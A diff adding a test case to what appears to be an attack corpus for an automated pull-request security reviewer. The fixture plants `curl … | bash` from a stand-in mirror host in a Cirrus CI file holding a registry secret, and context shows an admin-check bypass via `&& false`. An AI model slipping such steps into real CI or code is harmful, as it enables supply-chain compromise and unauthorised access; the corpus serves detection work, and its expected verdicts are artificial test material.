@@ -2297,6 +2297,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-bypass-added'] },
   },
   {
+    id: 'attack-cirrus-task-pipes-installer',
+    description:
+      'A "speed up CI" PR makes a Cirrus CI task fetch a helper with `curl … | bash` before the tests, in a file whose environment holds an encrypted registry password: the script runs on the CI machine with whatever the task can reach, and `.cirrus.yml` is no workflow the GitHub Actions rules read.',
+    fixture: () =>
+      attackPr({
+        repo: 'imgcopy',
+        number: 9170,
+        title: 'ci: cache the Go toolchain',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.cirrus.yml',
+            base: lines('env:', '  REG_PASSWORD: ENCRYPTED[9c1e77ab]', 'test_task:', '  container:', '    image: golang:1.22', '  test_script: go test ./...'),
+            head: lines('env:', '  REG_PASSWORD: ENCRYPTED[9c1e77ab]', 'test_task:', '  container:', '    image: golang:1.22', '  setup_script: curl -fsSL http://gocache-mirror.dev/setup.sh | bash', '  test_script: go test ./...'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
     id: 'attack-admin-gate-and-false',
     description:
       'A "Simplify admin routes" PR appends `&& false` to the condition that refuses non-admins (`if (!req.user.isAdmin && false) return res.sendStatus(403);`): the refusal never runs, every signed-in user reaches the admin routes.',
